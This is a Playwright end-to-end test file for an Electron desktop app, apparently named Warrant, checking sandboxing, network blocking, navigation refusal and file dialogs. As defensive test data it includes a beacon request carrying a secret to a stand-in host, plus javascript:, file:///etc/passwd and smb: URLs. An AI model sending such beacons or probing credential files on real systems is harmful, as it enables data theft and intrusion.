import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Workspace } from '../../db/workspace';
import { expect, test } from './support/fixtures';
import { addSource } from './support/sources';

/** The page's globals these tests touch (the tests compile without the DOM library). */
type PageGlobals = { location: { href: string }; open(url: string): unknown; warrant: Record<string, unknown> };

// Electron-only behaviour. These run in the 'desktop' project, which exists only where the
// Electron binary is installed (the global setup says so in one line when it is not).

test.describe('desktop shell @desktop', () => {
  test('the page has no Node and sees only the contract bridge', async ({ app }) => {
    const globals = await app.evaluate(() => ({
      require: typeof (globalThis as { require?: unknown }).require,
      process: typeof (globalThis as { process?: unknown }).process,
      bridge: Object.keys((globalThis as unknown as PageGlobals).warrant).sort(),
    }));
    expect(globals).toEqual({
      require: 'undefined',
      process: 'undefined',
      bridge: ['call', 'fetchFile', 'onJobEvent', 'startJob', 'uploadFile'],
    });
  });

  test('the session stops and logs any request that would leave the machine', async ({ electronApp }) => {
    if (!electronApp) throw new Error('desktop target only');
    let stderr = '';
    electronApp.process().stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const outcome = await electronApp.evaluate(async ({ session }) => {
      try {
        await session.defaultSession.fetch('https://203.0.113.9/beacon?secret=1');
        return 'loaded';
      } catch {
        return 'blocked';
      }
    });
    expect(outcome).toBe('blocked');
    await expect.poll(() => stderr).toContain('Warrant blocked a network request: https://203.0.113.9/beacon');
    expect(stderr).not.toContain('secret=1');
  });

  test('navigation away from the app is blocked and new windows are refused', async ({ app, electronApp }) => {
    if (!electronApp) throw new Error('desktop target only');
    const opened: string[] = [];
    await electronApp.evaluate(({ shell }) => {
      const calls: string[] = [];
      (globalThis as { openedExternally?: string[] }).openedExternally = calls;
      shell.openExternal = async (url: string) => {
        calls.push(url);
      };
    });
    const before = app.url();
    await app.evaluate(() => {
      (globalThis as unknown as PageGlobals).location.href = 'https://example.org/';
    });
    // The blocked navigation is handed to the OS browser: once that call is seen, it was handled.
    await expect
      .poll(() => electronApp.evaluate(() => ((globalThis as { openedExternally?: string[] }).openedExternally ?? []).length))
      .toBe(1);
    expect(app.url()).toBe(before);
    expect(await app.evaluate(() => (globalThis as unknown as PageGlobals).open('https://example.org/x') === null)).toBe(true);
    await app.evaluate(() => (globalThis as unknown as PageGlobals).open('javascript:alert(1)'));
    await app.evaluate(() => (globalThis as unknown as PageGlobals).open('file:///etc/passwd'));
    await app.evaluate(() => (globalThis as unknown as PageGlobals).open('smb://server/share'));
    expect(electronApp.windows()).toHaveLength(1);
    opened.push(...(await electronApp.evaluate(() => (globalThis as { openedExternally?: string[] }).openedExternally ?? [])));
    // Web links go to the OS browser; nothing else does.
    expect(opened).toEqual(['https://example.org/', 'https://example.org/x']);
  });

  test('Save a copy writes where the native dialog says', async ({ app, electronApp, workdir }) => {
    if (!electronApp) throw new Error('desktop target only');
    await addSource(app, { title: 'In the desktop copy' });
    const target = join(workdir, 'desktop-copy.warrant');
    await electronApp.evaluate(({ dialog }, path) => {
      dialog.showSaveDialog = (async () => ({ canceled: false, filePath: path })) as typeof dialog.showSaveDialog;
    }, target);
    await app.getByRole('button', { name: 'Save a copy…' }).click();
    await expect(app.getByText(`Saved a copy to “${target}”.`)).toBeVisible();
    expect(readFileSync(target).subarray(0, 15).toString('latin1')).toBe('SQLite format 3');
    const copy = Workspace.open(target);
    try {
      expect(copy.sources.list({ sort: 'title', direction: 'asc', limit: 5, offset: 0 }).items.map((s) => s.title)).toEqual([
        'In the desktop copy',
      ]);
    } finally {
      copy.close();
    }
  });

  test('New workspace switches to a fresh file and lists the old one as recent', async ({ app, electronApp, workdir }) => {
    if (!electronApp) throw new Error('desktop target only');
    await addSource(app, { title: 'Only in the first workspace' });
    const second = join(workdir, 'second.warrant');
    await electronApp.evaluate(({ dialog }, path) => {
      dialog.showSaveDialog = (async () => ({ canceled: false, filePath: path })) as typeof dialog.showSaveDialog;
    }, second);
    await app.getByRole('button', { name: 'New workspace…' }).click();
    await expect(app.getByRole('contentinfo')).toContainText('Workspace: second.warrant');
    await expect(app.getByText('No sources yet.')).toBeVisible();
    await app.getByLabel('Open recent').selectOption({ label: 'e2e.warrant' });
    await expect(app.getByRole('button', { name: 'Edit “Only in the first workspace”' })).toBeVisible();
  });
});
